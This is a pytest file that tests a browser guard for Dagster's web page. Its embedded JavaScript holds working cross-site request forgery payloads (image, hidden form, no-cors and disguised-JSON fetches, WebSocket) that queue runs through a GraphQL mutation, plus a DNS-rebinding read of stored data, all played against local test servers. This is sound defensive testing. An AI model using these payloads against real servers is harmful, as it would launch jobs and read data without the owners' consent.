"""Dagster's web page: pages of other sites start nothing there and read nothing, and a person can use it.

The attacks are played in a real browser, against the page as Dagster serves it, where they succeed, and
against the page behind the guard, where none does.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import dagster as dg
import pytest
from installation import Installation
from playwright.sync_api import Browser

from pipedrive_graph.orchestration.build import JOB
from pipedrive_graph.orchestration.instance import DEFINITIONS
from pipedrive_graph.simulator.server import Options, Simulator

from .conftest import launched

REPOSITORY = Path(__file__).parents[2]

NAME = "Ada Canary"
"""A person's name in what Dagster keeps of a run."""

# starting Dagster takes long, and the attacks wait for what does not come
pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

PATIENCE = 200
"""Seconds to wait for anything; a slow machine needs most of them."""

# The page as Dagster serves it and the page behind the guard, in one process: the definitions load once.
TWO_SERVERS = """
import asyncio, pathlib, sys, uvicorn
import dagster as dg
from pipedrive_graph.orchestration.browser_guard import BrowserGuard
from pipedrive_graph.orchestration.webserver import page
async def serve(app):
    configs = [uvicorn.Config(one, port=0, log_level="error") for one in (app, BrowserGuard(app))]
    servers = [uvicorn.Server(config) for config in configs]
    tasks = [asyncio.create_task(server.serve()) for server in servers]
    while not all(server.started for server in servers):
        await asyncio.sleep(0.05)
    ports = (str(server.servers[0].sockets[0].getsockname()[1]) for server in servers)
    pathlib.Path(sys.argv[1]).write_text(" ".join(ports))
    await asyncio.gather(*tasks)
with dg.DagsterInstance.get() as instance, page(instance) as app:
    asyncio.run(serve(app))
"""

ATTACKS = """
const url = attack => `${target}/graphql?query=` + encodeURIComponent(mutation(attack));
const attempts = {
  image: () => new Promise(done => {
    const image = new Image(); image.onload = image.onerror = done; image.src = url("image"); }),
  form: () => new Promise(done => {
    const frame = document.createElement("iframe"); frame.name = "hidden"; document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", action: url("form"), target: "hidden"});
    document.body.append(form); frame.onload = done; form.submit(); setTimeout(done, 3000); }),
  "no-cors get": () => fetch(url("no-cors get"), {mode: "no-cors"}),
  "no-cors post": () => fetch(url("no-cors post"), {mode: "no-cors", method: "POST", body: "x"}),
  "disguised json": () => fetch(`${target}/graphql`, {mode: "no-cors", method: "POST",
    headers: {"Content-Type": "text/plain; application/json"},
    body: JSON.stringify({query: mutation("disguised json")})}),
  "cors json": () => fetch(`${target}/graphql`, {method: "POST",
    headers: {"Content-Type": "application/json"}, body: JSON.stringify({query: mutation("cors json")})}),
  websocket: () => new Promise(done => {
    const socket = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws");
    socket.onopen = () => { opened.push("websocket"); socket.close(); done(); };
    socket.onerror = socket.onclose = done; }),
};
(async () => {
  for (const attempt of Object.values(attempts)) { try { await attempt(); } catch (error) {} }
  done();
})();
"""

READ = (
    "{assetsOrError{... on AssetConnection{nodes{assetMaterializations{metadataEntries{... on"
    " TextMetadataEntry{text}}}}}}}"
)


def mutation(attack: str) -> str:
    """Queue a run of the nightly job; a tag says which attack did it."""
    tags = f'[{{key: "dagster/partition", value: "default"}}, {{key: "attack", value: "{attack}"}}]'
    config = json.dumps(json.dumps({"ops": {"night": {"config": {"accept_shrink": True}}}}))
    return (
        "mutation {launchRun(executionParams: {"
        'selector: {repositoryLocationName: "pipedrive_graph.definitions",'
        ' repositoryName: "__repository__", jobName: "nightly"},'
        f" runConfigData: {config}, executionMetadata: {{tags: {tags}}}}})"
        " {__typename ... on PythonError {message}}}"
    )


@dataclass
class Servers:
    """Dagster's web page in two processes of one instance."""

    instance: dg.DagsterInstance
    bare: int
    guarded: int

    def attacked(self) -> set[str]:
        """The attacks that have queued a run so far."""
        return {run.tags["attack"] for run in self.instance.get_runs() if "attack" in run.tags}


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    folder = tmp_path_factory.mktemp("dagster-page")
    home = folder / "dagster"
    home.mkdir()
    environment = {"PIPEDRIVE_GRAPH_HOME": str(folder / "home"), "DAGSTER_HOME": str(home)}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment.items():
            patch.setenv(name, value)
        with dg.DagsterInstance.get() as instance:
            event = dg.AssetMaterialization("findings_csv", metadata={"worst": NAME})
            instance.report_runless_asset_event(event)
            ports = folder / "ports"
            process = subprocess.Popen(
                [sys.executable, "-c", TWO_SERVERS, ports], env={**os.environ, **environment}
            )
            try:
                eventually(lambda: ports.exists() and len(ports.read_text().split()) == 2)
                bare, guarded = map(int, ports.read_text().split())
                yield Servers(instance, bare, guarded)
            finally:
                process.terminate()
                process.wait()


def eventually(condition: Callable[[], object]) -> None:
    """Wait until something holds."""
    end = time.monotonic() + PATIENCE
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.1)


@pytest.fixture
def browser(servers: Servers) -> Iterator[Browser]:
    """A browser of one test, for which some names of the internet are names of this machine."""
    with launched("--host-resolver-rules=MAP *.example 127.0.0.1") as started:
        yield started


@contextmanager
def site(folder: Path) -> Iterator[int]:
    """A web site of somebody else; its port."""
    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
    handler.func.log_message = lambda *_: None
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def attack(browser: Browser, target: str, host: str, folder: Path) -> list[str]:
    """Open a page of another site that attacks the target; the connections that it could open."""
    script = (
        f"const target = {json.dumps(target)}, opened = [];"
        f"const mutation = attack => {json.dumps(mutation('ATTACK'))}.replace('ATTACK', attack);"
        "let done; window.finished = new Promise(resolve => done = () => resolve(opened));"
    )
    (folder / "index.html").write_text(f"<body><script>{script}{ATTACKS}</script>")
    with site(folder) as port:
        page = browser.new_page()
        page.goto(f"http://{host}:{port}/")
        opened: list[str] = page.evaluate("window.finished")
        page.close()
    return opened


def rebound(browser: Browser, port: int) -> str:
    """What a page reads that was loaded under a foreign name which now belongs to this machine."""
    page = browser.new_page()
    page.goto(f"http://rebound.example:{port}/server_info")
    text: str = page.evaluate(
        """async query => (await fetch("/graphql", {method: "POST", body: JSON.stringify({query}),
        headers: {"Content-Type": "application/json"}})).text()""",
        READ,
    )
    page.close()
    return text


def test_dagsters_own_page_gives_way_to_the_attacks(servers: Servers, browser: Browser, tmp_path) -> None:
    before = servers.attacked()

    opened = attack(browser, f"http://127.0.0.1:{servers.bare}", "other.example", tmp_path)

    assert servers.attacked() - before == {"image", "form", "no-cors get", "no-cors post", "disguised json"}
    assert opened == ["websocket"]
    assert NAME in rebound(browser, servers.bare)


@pytest.mark.parametrize("host", ["other.example", "localhost", "127.0.0.1"])
def test_behind_the_guard_no_attack_starts_or_reads_anything(
    servers: Servers, browser: Browser, tmp_path, host
) -> None:
    before = [run.run_id for run in servers.instance.get_runs()]

    opened = attack(browser, f"http://127.0.0.1:{servers.guarded}", host, tmp_path)

    assert [run.run_id for run in servers.instance.get_runs()] == before
    assert opened == []
    assert NAME not in rebound(browser, servers.guarded)


def test_a_person_queues_a_run_on_the_page(tmp_path: Path) -> None:
    (tmp_path / "dagster").mkdir()
    shutil.copy(REPOSITORY / "dagster_home" / "dagster.yaml", tmp_path / "dagster")
    with Simulator(Options(users=12, limit=2000)) as simulator:
        installation = Installation.of(tmp_path / "home", simulator)
        installation.variables["DAGSTER_HOME"] = str(tmp_path / "dagster")
        with socket.create_server(("127.0.0.1", 0)) as free:
            port = free.getsockname()[1]
        served = installation.process("dagster", "--only", "web", "--port", str(port))
        try:
            eventually(lambda: answers(port))
            with launched() as browser:
                page = browser.new_page()
                page.set_default_timeout(PATIENCE * 1000)
                page.goto(f"http://localhost:{port}/locations/{DEFINITIONS}/jobs/{JOB}/playground")
                page.get_by_role("button", name="Launch Run").click()
                with dg.DagsterInstance.from_config(str(tmp_path / "dagster")) as instance:
                    eventually(lambda: [run.job_name for run in instance.get_runs()] == [JOB])
        finally:
            served.send_signal(signal.SIGTERM)
            result = installation.wait(served)
    assert result.code == 0


def answers(port: int) -> bool:
    """Whether somebody listens on a port of this machine."""
    with socket.socket() as connection:
        return connection.connect_ex(("127.0.0.1", port)) == 0
